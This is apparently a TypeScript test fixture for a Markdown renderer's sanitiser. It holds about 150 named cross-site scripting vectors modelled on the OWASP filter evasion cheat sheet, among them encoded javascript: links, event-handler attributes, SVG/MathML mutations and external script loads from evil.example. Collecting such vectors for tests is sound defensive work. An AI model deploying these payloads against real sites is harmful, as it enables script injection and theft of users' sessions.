// Script-injection attempts against the Markdown renderer, in the style of
// the OWASP XSS Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
// plus the Markdown-specific ways to smuggle a URL (inline, reference,
// autolink, image). Each is [name, Markdown as a submitter would type it];
// the name is what a failing test reports.
const J = '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;';
const J_HEX = '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;';
const J_PADDED = '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058';
const SVG_BASE64 = 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+';
const HTML_BASE64 = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';

export const XSS_VECTORS: ReadonlyArray<readonly [name: string, markdown: string]> = [
  // Script elements
  ['script tag', '<script>alert(1)</script>'],
  ['script tag in mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script tag with external src', '<script src="https://evil.example/x.js"></script>'],
  ['script tag left open', '<script>alert(1)'],
  ['script tag with slash instead of space', '<script/xss src="https://evil.example/x.js"></script>'],
  ['script tag split by a null byte', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['script tag after an extra open bracket', '<<script>alert(1);//<</script>'],
  ['script tag nested inside its own name', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script tag with newlines inside the tag', '<script\n>alert(1)</script\n>'],
  ['script tag inline in a paragraph', 'Our view: <script>alert(1)</script> is clear.'],
  ['script tag in a heading', '# <script>alert(1)</script>'],
  ['script tag in a list item', '- item <script>alert(1)</script>'],
  ['script tag in a blockquote', '> <script>alert(1)</script>'],
  ['script tag in a table cell', '| a | b |\n|---|---|\n| <script>alert(1)</script> | x |'],
  ['script tag in link text', '[<script>alert(1)</script>](https://example.org)'],
  ['script tag in inline code', '`<script>alert(1)</script>`'],
  ['script tag in a fenced code block', '```html\n<script>alert(1)</script>\n```'],
  ['script tag as decimal entities', '&#60;script&#62;alert(1)&#60;/script&#62;'],
  ['script tag as hex entities', '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;'],
  ['script tag as named entities', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['script tag double-encoded', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
  ['script tag behind a pre block opener', '<pre>\n<script>alert(1)</script>\n</pre>'],
  ['script tag after an inline pre tag', 'a <pre>x<y <script>alert(1)</script></pre> b'],

  // Event handler attributes
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror in mixed case', '<IMG SRC=x OnErRoR=alert(1)>'],
  ['img onerror with slashes for spaces', '<img/src=x/onerror=alert(1)>'],
  ['img onerror split across lines', '<img src=x onerror\n=alert(1)>'],
  ['img onerror with entity-encoded code', '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">'],
  ['img onerror without closing bracket', '<img src=x onerror=alert(1)'],
  ['body onload', '<body onload=alert(1)>'],
  ['div onmouseover', '<div onmouseover="alert(1)">hover me</div>'],
  ['allowed p tag with onclick', '<p onclick=alert(1)>click</p>'],
  ['allowed h2 tag with onmouseover', '<h2 onmouseover=alert(1)>title</h2>'],
  ['allowed a tag with onclick', '<a href="https://example.org" onclick="alert(1)">x</a>'],
  ['allowed table with onclick', '<table onclick=alert(1)><tr><td>x</td></tr></table>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['select autofocus onfocus', '<select autofocus onfocus=alert(1)>'],
  ['textarea autofocus onfocus', '<textarea autofocus onfocus=alert(1)>'],
  ['video source onerror', '<video><source onerror=alert(1)></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['frameset onload', '<frameset onload=alert(1)>'],
  ['event handler inside strong emphasis', '**<img src=x onerror=alert(1)>**'],

  // SVG and MathML
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg onload unclosed with slash', '<svg/onload=alert(1)//'],
  ['svg with script child', '<svg><script>alert(1)</script></svg>'],
  ['svg link with xlink:href javascript', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['svg set to javascript href', '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['svg foreignObject iframe', '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>'],
  ['math href javascript', '<math href="javascript:alert(1)">CLICK</math>'],
  ['math maction xlink:href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['math mglyph style mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],

  // Markdown inline links with hostile schemes
  ['link to javascript:', '[x](javascript:alert(1))'],
  ['link to javascript: in mixed case', '[x](JaVaScRiPt:alert(1))'],
  ['link to javascript: with leading spaces', '[x](   javascript:alert(1))'],
  ['link to javascript: in angle brackets', '[x](<javascript:alert(1)>)'],
  ['link to javascript: with a backslash-escaped colon', '[x](javascript\\:alert(1))'],
  ['link to javascript: with an entity colon', '[x](javascript&#58;alert(1))'],
  ['link to javascript: with a named entity colon', '[x](javascript&colon;alert(1))'],
  ['link to javascript: fully decimal-encoded', `[x](${J}alert(1))`],
  ['link to javascript: fully hex-encoded', `[x](${J_HEX}alert(1))`],
  ['link to javascript: zero-padded without semicolons', `[x](${J_PADDED}alert(1))`],
  ['link to javascript: split by an encoded tab', '[x](java&#x09;script:alert(1))'],
  ['link to javascript: split by an encoded newline', '[x](java&#10;script:alert(1))'],
  ['link to javascript: split by a literal tab', '[x](java\tscript:alert(1))'],
  ['link to javascript: split by a literal newline', '[x](java\nscript:alert(1))'],
  ['link to javascript: behind an encoded control character', '[x](&#14;javascript:alert(1))'],
  ['link to javascript: with a comment-style payload', '[x](javascript://%0aalert(1))'],
  ['link to javascript: with a title', '[x](javascript:alert(1) "harmless")'],
  ['link to data: HTML', `[x](${HTML_BASE64})`],
  ['link to data: in capitals', '[x](DATA:text/html,<script>alert(1)</script>)'],
  ['link to vbscript:', '[x](vbscript:msgbox(1))'],
  ['link to vbscript: in mixed case', '[x](VbScRiPt:msgbox(1))'],
  ['link to a protocol-relative address', '[x](//evil.example/x)'],
  ['link to a backslash protocol-relative address', '[x](\\\\evil.example\\x)'],
  ['link to a slash-backslash address', '[x](/\\evil.example)'],
  ['link to https: without slashes', '[x](https:evil.example)'],

  // Attribute breakouts
  ['link address breaking out with double quotes', '[x](https://example.org" onmouseover="alert(1))'],
  ['link address breaking out with single quotes', "[x](https://example.org'onmouseover='alert(1))"],
  ['link address breaking out into a script tag', '[x](https://example.org"><script>alert(1)</script>)'],
  ['link address breaking out into svg', '[x](https://example.org/?a=1&b="><svg onload=alert(1)>)'],
  ['link address with backticks', '[x](https://example.org/`onmouseover=alert(1)`)'],
  ['link title breaking out', '[x](https://example.org "t\\" onmouseover=\\"alert(1)")'],
  ['mailto address breaking out', '[x](mailto:a@example.org"onclick="alert(1))'],
  ['raw img with backtick-quoted src', '<img src=`x`onerror=alert(1)>'],
  ['raw a with unquoted attributes glued together', '<a href="https://example.org"title="x"onmouseover="alert(1)">x</a>'],
  ['raw img with empty quotes before a script', '<IMG """><SCRIPT>alert(1)</SCRIPT>">'],

  // Reference-style links
  ['reference link to javascript:', '[x][evil]\n\n[evil]: javascript:alert(1)'],
  ['collapsed reference link to javascript:', '[evil][]\n\n[evil]: JAVASCRIPT:alert(1)'],
  ['shortcut reference link to data:', '[evil]\n\n[evil]: data:text/html,<script>alert(1)</script>'],
  ['reference link with an encoded scheme', `[x][evil]\n\n[evil]: ${J}alert(1)`],
  ['reference link with a title breakout', '[x][t]\n\n[t]: https://example.org "t\\" onclick=\\"alert(1)"'],
  ['reference link in angle brackets to vbscript:', '[x][v]\n\n[v]: <vbscript:msgbox(1)>'],

  // Autolinks and bare URLs
  ['autolink to javascript:', '<javascript:alert(1)>'],
  ['autolink to JavaScript: in mixed case', '<JavaScript:alert(1)>'],
  ['autolink to vbscript:', '<vbscript:msgbox(1)>'],
  ['autolink to data:', '<data:text/html,alert(1)>'],
  ['email autolink with quotes', '<a"onmouseover="alert(1)"@example.org>'],
  ['bare URL with a quote breakout', 'https://example.org/"onmouseover="alert(1)'],
  ['bare www URL followed by a tag', 'www.example.org/<script>alert(1)</script>'],

  // Images
  ['image from javascript:', '![x](javascript:alert(1))'],
  ['image with an onerror breakout in the address', '![x](https://example.org/x.png" onerror="alert(1))'],
  ['image with an onerror breakout in the description', '![" onerror="alert(1)](https://example.org/x.png)'],
  ['image from an SVG data: URL', `![x](${SVG_BASE64})`],
  ['image from a reference to javascript:', '![x][i]\n\n[i]: javascript:alert(1)'],
  ['image inside a link to javascript:', '[![x](https://example.org/a.png)](javascript:alert(1))'],
  ['image with a script description', '![<script>alert(1)</script>](https://example.org/a.png)'],

  // Raw anchors with hostile schemes
  ['raw a href javascript:', '<a href="javascript:alert(1)">x</a>'],
  ['raw a href javascript: split by a tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['raw a href javascript: with an encoded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['raw a href javascript: with leading blanks', '<a href="  javascript:alert(1)">x</a>'],
  ['raw a href javascript: with a named entity colon', '<a href=javascript&colon;alert(1)>x</a>'],
  ['raw a href with an unclosed quote', '<a href="javascript:alert(1)>x</a>'],
  ['raw a wrapping a Markdown link', '<a href="javascript:alert(1)">[x](https://example.org)</a>'],

  // Nested, malformed and unclosed markup
  ['div attribute holding a script tag', '<div <script>alert(1)</script>>'],
  ['b tag holding an img tag', '<b <img src=x onerror=alert(1)>>'],
  ['iframe left unclosed', '<iframe src=javascript:alert(1)'],
  ['noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['style element closed early', '<style><style/><img src=x onerror=alert(1)>'],
  ['title element holding an img', '<title><img src=x onerror=alert(1)></title>'],
  ['textarea holding an img', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['template holding a script', '<template><script>alert(1)</script></template>'],
  ['table cell with an img and a javascript: link', '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | c |'],

  // Comments, CDATA and declarations
  ['script inside an HTML comment', '<!--<script>alert(1)</script>-->'],
  ['script inside a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['comment closed with --!>', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['script inside CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['script after an XML processing instruction', '<?xml version="1.0"?><script>alert(1)</script>'],
  ['script after a doctype', '<!DOCTYPE html><script>alert(1)</script>'],

  // Style
  ['style element with a javascript: url', '<style>body{background:url("javascript:alert(1)")}</style>'],
  ['style element with @import', "<style>@import 'https://evil.example/x.css';</style>"],
  ['style attribute with a javascript: url', '<div style="background-image:url(javascript:alert(1))">x</div>'],
  ['style attribute with expression()', '<div style="width: expression(alert(1))">x</div>'],
  ['style attribute with a comment-split expression', '<p style="x:expr/**/ession(alert(1))">x</p>'],
  ['stylesheet link element', '<link rel="stylesheet" href="https://evil.example/x.css">'],

  // Embedding, navigation and form elements
  ['iframe to javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object data javascript:', '<object data="javascript:alert(1)"></object>'],
  ['embed of an SVG data: URL', `<embed src="${SVG_BASE64}">`],
  ['applet', '<applet code="Evil.class"></applet>'],
  ['base href javascript:', '<base href="javascript:alert(1)//">'],
  ['meta refresh to javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['form action javascript:', '<form action="javascript:alert(1)"><button>send</button></form>'],
  ['button formaction javascript:', '<button formaction="javascript:alert(1)">x</button>'],
  ['image input onerror', '<input type="image" src="x" onerror="alert(1)">'],
];
